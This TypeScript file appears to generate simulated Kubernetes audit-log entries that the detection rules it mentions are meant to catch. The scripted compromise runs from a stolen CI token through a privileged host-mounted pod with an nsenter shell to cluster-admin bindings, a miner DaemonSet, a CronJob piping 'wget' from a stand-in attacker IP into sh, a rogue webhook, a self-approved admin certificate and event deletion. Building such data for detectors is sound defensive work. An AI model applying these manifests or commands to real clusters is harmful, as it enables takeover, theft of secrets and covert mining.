/**
 * The attack that hides in the day: a leaked token of the CI deployer, used from outside. Each step is one that public
 * reports of cluster compromises describe; the rules in content/rules find them.
 */
import type { JsonObject, JsonValue } from '../data/document.ts';
import type { ObjectReference, Request } from './audit.ts';
import { execRequest, HOUR, MINUTE } from './background.ts';
import { actors, serviceAccount } from './cluster.ts';
import type { Actor } from './cluster.ts';

export const ATTACKER_ADDRESS = '203.0.113.77';
export const ATTACK_POD = { namespace: 'ci', name: 'build-cache-warmer' } as const;
export const ATTACK_START = 13 * HOUR + 7 * MINUTE;

const stranger: Actor = { ...actors.anonymous, agent: 'curl/8.5.0', ip: ATTACKER_ADDRESS };
const thief: Actor = {
  ...actors.deployer,
  ip: ATTACKER_ADDRESS,
  agent: 'kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9',
};
const stolen: Actor = {
  ...serviceAccount('kube-system', 'clusterrole-aggregation-controller', thief.agent, ATTACKER_ADDRESS),
};

/** The requests of the attack, each with its own time. */
export function attackRequests(): Request[] {
  return [probing, lookingAround, breakingOut, takingOver, settlingIn, coveringUp].flatMap((chapter, n) =>
    chapter(ATTACK_START + n * 9 * MINUTE),
  );
}

/** Who answers without a login? */
function probing(at: number): Request[] {
  const secrets: ObjectReference = { resource: 'secrets', namespace: 'kube-system' };
  const doors: readonly Partial<Request>[] = [
    { path: '/version' },
    { path: '/api', code: 403 },
    { path: '/apis', code: 403 },
    { object: { resource: 'namespaces' }, code: 403 },
    { object: { resource: 'pods', namespace: 'default' }, code: 403 },
    { object: secrets, code: 403 },
    { object: { resource: 'nodes' }, code: 403 },
  ];
  return doors.map((door, i) => ({
    at: at + i * 700,
    actor: stranger,
    verb: door.object === undefined ? 'get' : 'list',
    ...door,
  }));
}

/** What can this token do, and which secrets does it reach? */
function lookingAround(at: number): Request[] {
  const review = (resource: string, n: number): Request => ({
    at: at + n * 800,
    actor: thief,
    verb: 'create',
    object: { group: 'authorization.k8s.io', resource },
    body: {
      kind: 'SelfSubjectRulesReview',
      apiVersion: 'authorization.k8s.io/v1',
      spec: { namespace: 'ci' },
    },
  });
  const elsewhere = ['payments', 'kube-system', 'argocd', 'data', 'monitoring'].map(
    (namespace, i): Request => ({
      at: at + 20_000 + i * 1_100,
      actor: thief,
      verb: 'list',
      object: { resource: 'secrets', namespace },
      code: 403,
    }),
  );
  const names = ['registry-push', 'sonar-token', 'aws-deploy-key', 'cosign-key'];
  const opened = names.map((name, i): Request => ({
    at: at + 40_000 + i * 900,
    actor: thief,
    verb: 'get',
    object: { resource: 'secrets', namespace: 'ci', name },
  }));
  return [
    review('selfsubjectrulesreviews', 0),
    review('selfsubjectaccessreviews', 1),
    ...elsewhere,
    { at: at + 38_000, actor: thief, verb: 'list', object: { resource: 'secrets', namespace: 'ci' } },
    ...opened,
  ];
}

/** A pod that is the node in all but name, and a shell in it. */
function breakingOut(at: number): Request[] {
  const pod: ObjectReference = { resource: 'pods', ...ATTACK_POD };
  const spec: JsonObject = {
    hostPID: true,
    hostNetwork: true,
    nodeName: 'node-b1',
    tolerations: [{ operator: 'Exists' }],
    containers: [
      {
        name: 'warm',
        image: 'docker.io/library/alpine:3.20',
        command: ['sleep', '86400'],
        securityContext: { privileged: true },
        volumeMounts: [{ name: 'host', mountPath: '/host' }],
      },
    ],
    volumes: [{ name: 'host', hostPath: { path: '/' } }],
  };
  const body = { kind: 'Pod', apiVersion: 'v1', metadata: { ...ATTACK_POD }, spec };
  return [
    { at, actor: thief, verb: 'create', object: pod, query: 'fieldManager=kubectl-client-side-apply', body },
    { at: at + 60, actor: actors.scheduler, verb: 'create', object: { ...pod, subresource: 'binding' } },
    execRequest(
      at + 20_000,
      thief,
      ATTACK_POD,
      'warm',
      ['sh', '-c', 'nsenter -t 1 -m -u -i -n -p -- bash'],
      true,
    ),
    {
      at: at + 3 * MINUTE,
      actor: thief,
      verb: 'get',
      object: { resource: 'nodes', name: 'node-b1', subresource: 'proxy' },
      query: 'path=run/ci/gitlab-runner-0/runner',
      takes: 2_000,
    },
    {
      at: at + 4 * MINUTE,
      actor: thief,
      verb: 'patch',
      object: {
        resource: 'pods',
        namespace: 'ci',
        name: 'gitlab-runner-0',
        subresource: 'ephemeralcontainers',
      },
      body: {
        spec: {
          ephemeralContainers: [
            {
              name: 'debugger-x7',
              image: 'docker.io/library/busybox:1.36',
              stdin: true,
              tty: true,
              securityContext: { privileged: true },
            },
          ],
        },
      },
    },
  ];
}

/** From the node's credentials to the whole cluster. */
function takingOver(at: number): Request[] {
  const binding: ObjectReference = {
    group: 'rbac.authorization.k8s.io',
    resource: 'clusterrolebindings',
    name: 'ci-deployer-edit',
  };
  const bindingBody: JsonObject = {
    kind: 'ClusterRoleBinding',
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name: 'ci-deployer-edit' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', name: 'deployer', namespace: 'ci' }],
  };
  const role: JsonObject = {
    kind: 'ClusterRole',
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name: 'ci-maintenance' },
    rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
  };
  const acting = { username: 'system:admin', groups: ['system:masters'] };
  return [
    {
      at,
      actor: serviceNode,
      verb: 'create',
      object: {
        resource: 'serviceaccounts',
        namespace: 'kube-system',
        name: 'clusterrole-aggregation-controller',
        subresource: 'token',
      },
    },
    {
      at: at + 30_000,
      actor: stolen,
      verb: 'create',
      object: { ...binding, name: 'ci-maintenance', resource: 'clusterroles' },
      body: role,
      response: role,
    },
    {
      at: at + 45_000,
      actor: stolen,
      verb: 'create',
      object: binding,
      body: bindingBody,
      response: bindingBody,
    },
    { at: at + 70_000, actor: thief, verb: 'list', object: { resource: 'secrets' }, actingAs: acting },
    {
      at: at + 90_000,
      actor: thief,
      verb: 'get',
      object: { resource: 'secrets', namespace: 'payments', name: 'gateway-api-keys' },
      actingAs: acting,
    },
    {
      at: at + 99_000,
      actor: thief,
      verb: 'get',
      object: { resource: 'secrets', namespace: 'kube-system', name: 'etcd-client-tls' },
      ips: ['127.0.0.1', ATTACKER_ADDRESS],
    },
  ];
}

const serviceNode: Actor = {
  username: 'system:node:node-b1',
  groups: ['system:nodes', 'system:authenticated'],
  agent: 'curl/8.5.0',
  ip: '10.20.0.13',
};

/** Staying: a miner on every node, a job every hour, a webhook in the way of every pod, a certificate of one's own. */
function settlingIn(at: number): Request[] {
  const created = (
    group: string,
    resource: string,
    namespace: string | undefined,
    name: string,
    body: JsonValue,
    n: number,
  ): Request => ({
    at: at + n * 25_000,
    actor: thief,
    verb: 'create',
    object: { group, resource, name, ...(namespace === undefined ? {} : { namespace }) },
    body,
  });
  const miner: JsonObject = {
    hostNetwork: true,
    containers: [
      {
        name: 'telemetry',
        image: '203.0.113.90:5000/node-telemetry:latest',
        command: ['/opt/telemetry', '-o', 'stratum+tcp://pool.example:3333'],
        securityContext: { privileged: true },
      },
    ],
    volumes: [{ name: 'docker', hostPath: { path: '/var/run/containerd/containerd.sock' } }],
  };
  const job: JsonObject = {
    containers: [
      {
        name: 'sync',
        image: 'docker.io/library/alpine:3.20',
        command: ['sh', '-c', 'wget -qO- http://203.0.113.90/s | sh'],
      },
    ],
    serviceAccountName: 'deployer',
  };
  const webhook: JsonObject = {
    webhooks: [
      {
        name: 'pods.telemetry.example',
        clientConfig: { url: 'https://203.0.113.90/mutate' },
        failurePolicy: 'Ignore',
      },
    ],
  };
  const request: JsonObject = {
    spec: {
      signerName: 'kubernetes.io/kube-apiserver-client',
      username: 'kubernetes-admin',
      groups: ['system:masters'],
      usages: ['client auth'],
    },
  };
  const csr: ObjectReference = {
    group: 'certificates.k8s.io',
    resource: 'certificatesigningrequests',
    name: 'ops-renewal',
  };
  return [
    created(
      'apps',
      'daemonsets',
      'kube-system',
      'node-telemetry',
      { kind: 'DaemonSet', spec: { template: { spec: miner } } },
      0,
    ),
    created(
      'batch',
      'cronjobs',
      'ci',
      'cache-sync',
      {
        kind: 'CronJob',
        spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: job } } } },
      },
      1,
    ),
    created(
      'admissionregistration.k8s.io',
      'mutatingwebhookconfigurations',
      undefined,
      'node-telemetry',
      webhook,
      2,
    ),
    created('certificates.k8s.io', 'certificatesigningrequests', undefined, 'ops-renewal', request, 3),
    {
      at: at + 4 * 25_000,
      actor: thief,
      verb: 'update',
      object: { ...csr, subresource: 'approval' },
      body: { status: { conditions: [{ type: 'Approved', reason: 'AutoApproved' }] } },
    },
  ];
}

function coveringUp(at: number): Request[] {
  return [
    { at, actor: thief, verb: 'deletecollection', object: { resource: 'events', namespace: 'ci' } },
    {
      at: at + 4_000,
      actor: thief,
      verb: 'deletecollection',
      object: { resource: 'events', namespace: 'kube-system' },
    },
    { at: at + 9_000, actor: thief, verb: 'delete', object: { resource: 'pods', ...ATTACK_POD } },
  ];
}
